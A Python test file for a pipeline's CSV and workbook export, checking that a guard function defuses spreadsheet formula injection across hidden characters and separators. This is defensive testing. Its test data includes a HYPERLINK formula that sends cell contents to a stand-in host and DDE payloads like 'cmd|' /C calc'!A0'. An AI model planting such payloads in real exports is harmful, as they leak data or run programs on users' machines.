"""No spreadsheet calculates the text of a server, whatever separator it opens the file with."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess

import pyarrow as pa
import pytest
from openpyxl import load_workbook

from pipeline.export.files import write_csv
from pipeline.results.answered_sheet import Exported
from pipeline.results.formulas import unformulaic
from tests.support.servers import Answer, Server

HIDDEN = ("", "\0", "\x01", "\x1f", "\x7f", "\x85", "\u200b", "\u200e", "\ufeff", "\u00a0", " ",
          "\u00ad", "\u2060", "\U000e0041", "\u3164", " \0\u200f ")  # fmt: skip
FORMULAS = ('=HYPERLINK("http://x.example/"&A1)', "=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)", "\uff1d1+1")  # fmt: skip
BEFORE = ("", "hello;", "hello,", "hello\t", "hello|", "hello\n", "hello\r\n", "hello\r", '"',
          'say "hello";', "a; b,\t", "a\u2028")  # fmt: skip


def fields(text: str, separator: str) -> list[str]:
    """The cells of a text file as a spreadsheet splits them: a quote counts only at the start."""
    found, rest = [], text
    while rest:
        quoted = re.match(r'"((?:[^"]|"")*)"', rest)
        cell = quoted[1].replace('""', '"') if quoted else ""
        rest = rest[quoted.end() :] if quoted else rest
        plain = re.match(rf"[^{re.escape(separator)}\r\n]*", rest)
        assert plain is not None
        found.append(cell + plain[0])
        rest = rest[plain.end() + 1 :]
    return found


def calculated(cell: str) -> bool:
    """Tells whether a spreadsheet takes a cell for a formula. It skips invisible characters."""
    seen = "".join(c for c in cell if c.isprintable() or c in "\t").replace("\u3164", "")
    seen = seen.replace("\u00a0", "").lstrip(" ")
    return seen.startswith(("=", "\uff1d")) or (
        seen.startswith(("+", "-", "@")) and any(mark in seen for mark in "(|+")
    )


def as_csv(*cells: str, delimiter: str = ",") -> str:
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=delimiter).writerow(cells)
    return text.getvalue()


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("before", BEFORE)
def test_a_formula_is_text_after_any_hidden_character_and_with_every_separator(formula, before):
    """The test also shows that a spreadsheet would calculate the same text without the guard."""
    for hidden in HIDDEN:
        text = f"{before}{hidden}{formula};x"
        for own in ",;\t":
            written = as_csv("a", unformulaic(text, own), "b", delimiter=own)
            for separator in ",;\t|":
                assert not any(map(calculated, fields(written, separator))), (text, separator)
    if before not in ('"', "a\u2028"):
        bare = [as_csv("a", f"{before}{formula}", "b", delimiter=own) for own in ",;"]
        assert any(calculated(cell) for b in bare for s in ",;\t|" for cell in fields(b, s))


def test_a_rare_separator_of_the_sheet_is_guarded_too():
    """For example `sep=~`."""
    assert unformulaic("a~=1~ -2", "~") == "a~'=1~ '-2"


@pytest.mark.parametrize(
    "text",
    [
        "Fruits:\n- apples\n- pears, red\n+ figs",
        "from -5 °C, -7,5 °C to +3\n+49 170 1234567",
        "thanks, @anna and @ben\nyours",
        "a = b, c == d; x >= y",
        "a\tb\r\nc",
    ],
)
def test_lists_numbers_and_names_in_an_answer_do_not_change(text):
    """If nothing in their line could call a function."""
    assert unformulaic(text) == text


UNCHANGED = ("-5", "+1", "-5%", "-5.5", "-1,234.5", "-.5", "+49 30 1234", "-5 °C", "- 5",
             "- bullet",
             "- bullet\n- another\n+ one more", "-", "+", "--", "---\nnext", "- CO2 emissions",
             "@name", "@name, hello", " - a", "\ttab", "\u200b-5", "-\u00a0Größe")  # fmt: skip
PREFIXED = ("=1+1", "= hello", "=", "=> next", "-1+cmd|'/C calc'!A0", "- 1+cmd|'/C calc'!A0", "+A1",
            "-A1", "- A1", "- $A$1 + 2", "+ CO2", "-A1:B2", "-1+1", "-5-3", "+1/2", "-5 - 3",
            "+1-800-555", "--A1", "---A1", "@SUM(A1)", "@A1", "@A1+1", "-SUM(1)", "- SUM (1)",
            "-name", "+'C:\\[x.xlsx]S'!A1", "- a\n+HYPERLINK(1)", "-5\n+cmd|' /C calc'!A0",
            "- 'x'!A1", "-5=5", "-(5)", '+"a"&"b"', "-{1}", " \u200b-A1", "\uff0d1", "\uff0b1",
            "@ SUM(1)", "-\nSUM(1)", "-\u00a0SUM(1)", "- 2+3", "-5%+A1")  # fmt: skip


@pytest.mark.parametrize("text", UNCHANGED)
def test_a_number_a_list_item_a_name_or_a_dash_at_the_beginning_does_not_change(text):
    """No spreadsheet calculates it."""
    assert unformulaic(text) == text


@pytest.mark.parametrize("text", PREFIXED)
def test_a_text_that_a_spreadsheet_would_calculate_gets_one_quote_in_front(text):
    """Sums, references to cells, and everything that can call a function or another program."""
    assert unformulaic(text).startswith(f"'{text[0]}")


@pytest.mark.skipif(not shutil.which("soffice"), reason="needs LibreOffice")
def test_libreoffice_makes_no_formula_of_a_text_without_a_quote(tmp_path):
    """The workbook that it makes of the texts has no formula, and only numbers changed."""
    source = tmp_path / "in.csv"
    texts = [unformulaic(text) for text in (*UNCHANGED, *PREFIXED)]
    source.write_text("".join(as_csv("a", text) for text in texts), encoding="utf-8-sig")
    infilter = "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,0,true"
    subprocess.run(
        ["soffice", "--headless", infilter, "--convert-to", "xlsx", "--outdir", tmp_path, source],
        check=True,
        capture_output=True,
        timeout=120,
    )
    cells = [row[1] for row in load_workbook(tmp_path / "in.xlsx").worksheets[0]]
    assert len(cells) == len(texts)
    assert {cell.data_type for cell in cells} == {"n", "s"}
    numbers = {text for cell, text in zip(cells, texts, strict=True) if cell.data_type == "n"}
    assert numbers <= {"-5", "+1", "-5%", "-5.5", "-1,234.5", "-.5", "- 5", "\u200b-5"}


def test_control_characters_are_removed_from_the_added_cells_only(tmp_path):
    """The sheet's own cells do not change, formulas included."""
    own, added = "\0=1;=2\x07", "a\0b\x1b\x7fc\td\ne"
    batch = pa.record_batch({"a": [own], "result": [added], "_status": ["ok"]})
    kinds = {"result": "result", "_status": "status"}
    exported = Exported(batch.schema, 1, kinds, lambda: iter([batch]), ";")
    target = tmp_path / "out.csv"
    assert write_csv(exported, target, True) == 1
    with target.open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file, delimiter=";"))[1] == [own, "abc\td\ne", "ok"]
    assert write_csv(exported, target, False) == 0
    with target.open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file, delimiter=";"))[1] == [own, added, "ok"]


NASTY = "\0=HYPERLINK(1)\nhello;=1+1;"


def nasty(body: bytes) -> Answer:
    if b"fails" in body:
        return 400, {}, json.dumps({"success": False, "error": NASTY, "code": "-1"}).encode()
    citations = [{"title": NASTY, "url": f"https://x.example/;{NASTY}"}]
    return 200, {}, json.dumps({"success": True, "result": NASTY, "citations": citations}).encode()


def test_every_file_for_a_spreadsheet_follows_the_same_rule(make_job):
    """The exports, the citations, failures.csv and the workbook."""
    own = ["a story", "fails"]
    with Server(nasty) as server:
        job = make_job(server.url, rows=[[text] for text in own])
        job.run(expect=3)
    out, sources, book = (job.folder / name for name in ("out.csv", "sources.csv", "out.xlsx"))
    assert job.call("export", "--to", str(out)).returncode == 0
    assert job.call("export", "--citations", str(sources)).returncode == 0
    assert job.call("export", "--to", str(book)).returncode == 0
    for path in (out, sources, job.output / "failures.csv"):
        raw = path.read_bytes()
        assert b"\0" not in raw
        text = raw.decode("utf-8-sig")
        for separator in ",;\t":
            assert not any(map(calculated, fields(text, separator)))
    with out.open(encoding="utf-8-sig", newline="") as file:
        assert [row[0] for row in csv.reader(file)] == ["story", *own]
    with (job.output / "failures.csv").open(encoding="utf-8", newline="") as file:
        [row] = csv.DictReader(file)
    assert (row["story"], row["_error_code"]) == ("fails", "-1")
    kinds = {c.data_type for page in load_workbook(book) for line in page for c in line if c.value}
    assert kinds <= {"s", "n"}


@pytest.mark.skipif(not shutil.which("soffice"), reason="needs LibreOffice")
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_libreoffice_calculates_nothing(tmp_path, separator):
    """LibreOffice evaluates the formulas of a file and writes the values."""
    source = tmp_path / "in.csv"
    cells = [f"{b}{h}={6}*7" for b in BEFORE for h in HIDDEN]
    source.write_text(
        "".join(as_csv("a", unformulaic(c), "b") for c in cells), encoding="utf-8-sig"
    )
    into = tmp_path / "out"
    infilter = f"--infilter=CSV:{ord(separator)},34,76,1,,0,false,true,false,false,false,0,true"
    subprocess.run(
        ["soffice", "--headless", infilter, "--convert-to", "csv", "--outdir", into, source],
        check=True,
        capture_output=True,
        timeout=120,
    )
    assert "42" not in (into / "in.csv").read_text("utf-8")
